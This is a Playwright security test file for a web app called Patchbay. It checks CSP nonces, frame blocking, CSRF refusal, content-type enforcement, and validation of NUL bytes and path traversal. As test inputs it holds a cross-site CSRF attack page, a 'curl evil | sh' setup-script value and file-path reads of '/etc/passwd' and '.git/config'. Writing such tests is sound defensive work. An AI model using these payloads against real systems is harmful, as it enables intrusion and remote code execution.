import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type APIResponse, type Page } from "@playwright/test";
import { APP, fire, openTask, pickWidgets, sameOrigin, signIn, taskRow } from "./support/session";

/**
 * The web surface seen from outside: what an attacker's page or request gets back, and what a person's browser
 * enforces (CSP, framing). Every answer here is a clear 4xx, never a 500.
 */

const NUL = "\u0000";

/**
 * An attacker's web server on this machine: another origin, on the same site as the app when reached as
 * 127.0.0.1 (only the port differs) and on another site when reached as localhost. It serves `pages` as HTML.
 */
const attackerPages = new Map<string, string>();
let attacker: http.Server;
let attackerPort = 0;
test.beforeAll(async () => {
  attacker = http.createServer((req, res) => {
    const page = attackerPages.get(req.url ?? "");
    res.writeHead(page ? 200 : 404, { "Content-Type": "text/html; charset=utf-8" }).end(page ?? "not found");
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerPort = (attacker.address() as AddressInfo).port;
});
test.afterAll(async () => new Promise<void>((resolve) => attacker.close(() => resolve())));

type ErrorJson = { error: { code: string; message: string } };

/** Starts recording CSP violations (the DOM event and the console's report) of every document the page loads. */
async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
  const fromConsole: string[] = [];
  page.on("console", (msg) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(msg.text())) fromConsole.push(msg.text());
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"}`));
  });
  return async () => [...fromConsole, ...(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp))];
}

/** Creates an Ask task through the API as the page's own scripts do, and returns its id. */
async function createTask(page: Page, prompt: string): Promise<string> {
  const res = await page.evaluate(async (prompt) => {
    const r = await fetch("/api/tasks", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ repo: "acme/widgets", branch: "main", mode: "ask", prompt }),
    });
    return { status: r.status, body: await r.json() };
  }, prompt);
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.task.id as string;
}

async function taskTitles(page: Page): Promise<string[]> {
  const res = await page.request.get("/api/tasks?tab=current&limit=100");
  expect(res.status()).toBe(200);
  return ((await res.json()) as { tasks: { title: string }[] }).tasks.map((t) => t.title);
}

async function expectError(res: APIResponse, status: number, code: string, message: RegExp) {
  expect(res.status(), await res.text()).toBe(status);
  const body = (await res.json()) as ErrorJson;
  expect(body.error.code).toBe(code);
  expect(body.error.message).toMatch(message);
  expect(JSON.stringify(body)).not.toMatch(/\/tmp\/|patchbay-e2e-|\/work\/|params:|Failed query/);
}

test("no CSP violation on any page; the nonced theme script and the avatar still work", async ({ page }) => {
  const violations = await watchCsp(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await page.goto("/signin");
  // The inline theme script ran (it carries the nonce): the dark theme is applied before any click.
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  expect(await violations()).toEqual([]);

  await signIn(page, "alice");
  const avatar = page.locator("header img");
  await expect(avatar).toBeVisible();
  expect(await avatar.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
  expect(await violations()).toEqual([]);

  await pickWidgets(page);
  await fire(page, "How does sum work? (csp)", "ask");
  const row = taskRow(page, "How does sum work? (csp)").first();
  await expect(row).toContainText("Ready", { timeout: 60_000 });
  await openTask(row);
  await expect(page.getByTestId("final-message")).toBeVisible();
  await page.getByTestId("final-message").getByRole("button", { name: /Open src\/sum\.js/ }).click();
  await expect(page.getByTestId("file-peek")).toContainText("function sum(numbers)");
  await page.getByRole("tab", { name: "Logs" }).click();
  await expect(page.getByRole("log", { name: "Work log" })).toBeVisible();
  expect(await violations()).toEqual([]);

  await page.goto("/environments/acme/widgets");
  await expect(page.getByLabel("Setup script")).toBeVisible();
  expect(await violations()).toEqual([]);
  await page.goto("/no-such-page");
  await expect(page.getByRole("heading", { name: "Not found" })).toBeVisible();
  await page.getByRole("link", { name: "Back to tasks" }).click();
  await expect(page.getByRole("heading", { name: "What should we code next?" })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("every page gets a fresh nonce, on every script; the security headers are on pages and API answers", async ({ page }) => {
  await signIn(page, "alice");
  const id = await createTask(page, "How does sum work? (headers)");

  const policies: string[] = [];
  for (const path of ["/", "/", `/tasks/${id}`]) {
    const res = await page.request.get(path);
    expect(res.status()).toBe(200);
    const headers = res.headers();
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-frame-options"]).toBe("DENY");
    expect(headers["referrer-policy"]).toBe("same-origin");
    expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
    expect(headers["permissions-policy"]).toMatch(/camera=\(\)/);
    // Plain http (the e2e stack): no HSTS, which would pin a local install to https.
    expect(headers["strict-transport-security"]).toBeUndefined();
    const policy = headers["content-security-policy"];
    expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/]{22}==' 'strict-dynamic'(;|$)/);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
    // Every script of the page carries this response's nonce.
    const nonce = /'nonce-([^']+)'/.exec(policy)![1];
    const html = await res.text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    expect(scripts.length).toBeGreaterThan(3);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    policies.push(policy);
  }
  expect(new Set(policies.map((p) => /'nonce-([^']+)'/.exec(p)![1])).size).toBe(3);

  for (const path of ["/api/tasks", `/api/tasks/${id}`, "/api/health"]) {
    const headers = (await page.request.get(path)).headers();
    expect(headers["content-security-policy"], path).toBe("default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["x-frame-options"]).toBe("DENY");
  }
});

test("another site cannot frame Patchbay", async ({ page }) => {
  attackerPages.set("/frame", `<!doctype html><title>framed</title><iframe src="${APP}/signin" width="600" height="400"></iframe>`);
  const framed = page.waitForResponse(`${APP}/signin`);
  await page.goto(`http://localhost:${attackerPort}/frame`);
  // The app answered, with its headers, and the browser refused to show the answer inside another site.
  expect((await framed).headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  const frame = page.frames().find((f) => f !== page.mainFrame());
  await expect.poll(() => frame?.url()).not.toBe(`${APP}/signin`);
  await expect(page.frameLocator("iframe").getByRole("heading", { name: "Sign in to continue" })).toHaveCount(0);
});

test("cross-origin and same-site requests with alice's cookie are refused with 403 and create nothing", async ({ page }) => {
  await signIn(page, "alice");
  const body = { repo: "acme/widgets", branch: "main", mode: "ask", prompt: "csrf: evil.example" };

  // A script elsewhere, as seen by the server (the browser would send these headers).
  const crossSite = await page.request.post("/api/tasks", {
    data: body,
    headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
  });
  await expectError(crossSite, 403, "cross_origin", /only accepts changes made from its own pages/);
  const sameSite = await page.request.post("/api/tasks", {
    data: { ...body, prompt: "csrf: sibling" },
    headers: { origin: "http://127.0.0.1:3199", "sec-fetch-site": "same-site" },
  });
  await expectError(sameSite, 403, "cross_origin", /another site/);
  // No Fetch Metadata and a foreign Origin; or no Origin at all.
  await expectError(await page.request.post("/api/tasks", { data: body, headers: { origin: "https://evil.example" } }), 403, "cross_origin", /another site/);
  await expectError(await page.request.post("/api/tasks", { data: body }), 403, "cross_origin", /no Origin header/);

  // Every state-changing endpoint, not just task creation.
  const id = await createTask(page, "How does sum work? (csrf target)");
  const evil = { origin: "https://evil.example", "sec-fetch-site": "cross-site" };
  for (const res of [
    await page.request.post(`/api/tasks/${id}/cancel`, { headers: evil }),
    await page.request.post(`/api/tasks/${id}/follow-ups`, { data: { prompt: "more" }, headers: evil }),
    await page.request.post(`/api/tasks/${id}/pr`, { data: {}, headers: evil }),
    await page.request.patch(`/api/tasks/${id}`, { data: { archived: true }, headers: evil }),
    await page.request.delete(`/api/tasks/${id}`, { headers: evil }),
    await page.request.put("/api/environments/acme/widgets", { data: { setupScript: "curl evil | sh" }, headers: evil }),
  ]) {
    await expectError(res, 403, "cross_origin", /another site/);
  }
  const detail = await (await page.request.get(`/api/tasks/${id}`)).json();
  expect(detail.task.archived).toBe(false);
  const env = await (await page.request.get("/api/environments/acme/widgets")).json();
  expect(env.environment.setupScript).not.toContain("curl evil");
  expect(await taskTitles(page)).not.toContainEqual(expect.stringMatching(/^csrf:/));
});

test("a real attacker page: a same-site form, a text/plain JSON form and a no-cors fetch all fail", async ({ page }) => {
  await signIn(page, "alice");
  const json = JSON.stringify({ repo: "acme/widgets", branch: "main", mode: "ask", prompt: "csrf: form" });
  attackerPages.set(
    "/prize",
    `<!doctype html><title>win a prize</title>
      <form id="urlencoded" method="POST" action="${APP}/api/tasks"><input name="prompt" value="csrf: form"></form>
      <form id="plain" method="POST" enctype="text/plain" action="${APP}/api/tasks">
        <input name='${json.slice(0, -1)},"x":"' value='"}'></form>`,
  );
  const prize = `http://127.0.0.1:${attackerPort}/prize`;

  for (const form of ["urlencoded", "plain"]) {
    await page.goto(prize);
    const answer = page.waitForResponse((r) => r.url() === `${APP}/api/tasks` && r.request().method() === "POST");
    await page.evaluate((id) => (document.getElementById(id) as HTMLFormElement).submit(), form);
    const res = await answer;
    // Same site: alice's session cookie went along (SameSite=Lax lets it), and still nothing happened.
    const sent = await res.request().allHeaders();
    expect(sent.cookie).toContain("next-auth.session-token=");
    expect(sent.origin).toBe(`http://127.0.0.1:${attackerPort}`);
    expect(res.status(), form).toBe(403);
    expect(((await res.json()) as ErrorJson).error.code).toBe("cross_origin");
  }

  // A no-cors fetch reaches the server but is refused, and the attacker cannot even read the refusal (CORP).
  await page.goto(prize);
  const outcome = await page.evaluate(
    (body) =>
      fetch("http://127.0.0.1:3100/api/tasks", { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body }).then(
        (r) => `answered ${r.type}`,
        () => "blocked",
      ),
    json.replace("csrf: form", "csrf: fetch"),
  );
  expect(outcome).toBe("blocked");

  await page.goto("/");
  expect(await taskTitles(page)).not.toContainEqual(expect.stringMatching(/^csrf:/));
});

test("from Patchbay's own origin: JSON works, a form-encoded or text/plain body is refused with 415", async ({ page }) => {
  await signIn(page, "alice");
  const json = JSON.stringify({ repo: "acme/widgets", branch: "main", mode: "ask", prompt: "not json" });
  for (const type of ["application/x-www-form-urlencoded", "text/plain"]) {
    const res = await page.request.post("/api/tasks", { data: json, headers: { ...sameOrigin, "content-type": type } });
    await expectError(res, 415, "unsupported_media_type", /Content-Type: application\/json/);
  }
  // The browser's own same-origin request, as the composer sends it.
  const id = await createTask(page, "How does sum work? (same origin)");
  expect(id).toMatch(/^[0-9a-f-]{36}$/);
  // Without Fetch Metadata, an Origin that is Patchbay's is accepted too.
  const res = await page.request.patch(`/api/tasks/${id}`, { data: { archived: true }, headers: sameOrigin });
  expect(res.status()).toBe(200);
  expect(await taskTitles(page)).not.toContain("not json");
});

test("NUL and other invalid text anywhere is a 400 naming the field, never a 500", async ({ page }) => {
  await signIn(page, "alice");
  const id = await createTask(page, "How does sum work? (bad text)");
  const detail = await (await page.request.get(`/api/tasks/${id}`)).json();
  const attemptId = detail.attempts[0].id as string;

  const task = { repo: "acme/widgets", branch: "main", mode: "ask", prompt: "fine" };
  const post = (path: string, data: unknown) => page.request.post(path, { data, headers: sameOrigin });
  const put = (data: unknown) => page.request.put("/api/environments/acme/widgets", { data, headers: sameOrigin });
  const cases: [string, Promise<APIResponse>, RegExp][] = [
    ["prompt", post("/api/tasks", { ...task, prompt: `fix${NUL}it` }), /^prompt: contains a NUL byte/],
    ["prompt (lone surrogate)", page.request.post("/api/tasks", { data: Buffer.from(`{"repo":"acme/widgets","branch":"main","mode":"ask","prompt":"a\\ud800b"}`), headers: { ...sameOrigin, "content-type": "application/json" } }), /^prompt: contains an unpaired UTF-16 surrogate/],
    ["prompt (escape)", post("/api/tasks", { ...task, prompt: "look\u001b[31m red" }), /^prompt: contains the control character U\+001B/],
    ["branch", post("/api/tasks", { ...task, branch: `main${NUL}` }), /^branch: contains a NUL byte/],
    ["repo", post("/api/tasks", { ...task, repo: `acme/wid${NUL}gets` }), /^repo: contains a NUL byte/],
    ["follow-up", post(`/api/tasks/${id}/follow-ups`, { prompt: `and${NUL}then` }), /^prompt: contains a NUL byte/],
    ["variable value", put({ envVars: { APP_MODE: `e2e${NUL}` } }), /^envVars\.APP_MODE: contains a NUL byte/],
    ["variable name", put({ envVars: { [`APP${NUL}MODE`]: "e2e" } }), /^envVars\.APP\\u0000MODE: contains a NUL byte/],
    ["secret", put({ secrets: { TOKEN: `tok${NUL}` } }), /^secrets\.TOKEN: contains a NUL byte/],
    ["setup script", put({ setupScript: `npm ci${NUL}` }), /^setupScript: contains a NUL byte/],
    ["board search", page.request.get("/api/tasks?q=sum%00"), /^q: contains a NUL byte/],
    ["repository search", page.request.get("/api/repos?q=acme%00"), /^q: contains a NUL byte/],
    ["file path", page.request.get(`/api/tasks/${id}/attempts/${attemptId}/file?path=src%2Fsum.js%00.txt`), /^path: contains a NUL byte/],
  ];
  for (const [field, request, message] of cases) {
    await test.step(field, async () => expectError(await request, 400, "bad_request", message));
  }

  // A file path outside the checkout: refused clearly, without the server's folders in the message.
  for (const path of ["/etc/passwd", "../../../../etc/passwd", ".git/config"]) {
    const res = await page.request.get(`/api/tasks/${id}/attempts/${attemptId}/file?path=${encodeURIComponent(path)}`);
    expect(res.status(), path).toBeGreaterThanOrEqual(400);
    expect(res.status(), path).toBeLessThan(500);
    expect(await res.text()).not.toMatch(/\/tmp\/|patchbay-e2e-|\/work\//);
  }
  // Bytes that are not UTF-8 at all are not a 500 either.
  const raw = await page.request.post("/api/tasks", { data: Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), headers: { ...sameOrigin, "content-type": "application/json" } });
  expect(raw.status()).toBe(400);

  expect(await taskTitles(page)).not.toContainEqual(expect.stringContaining(NUL));
});
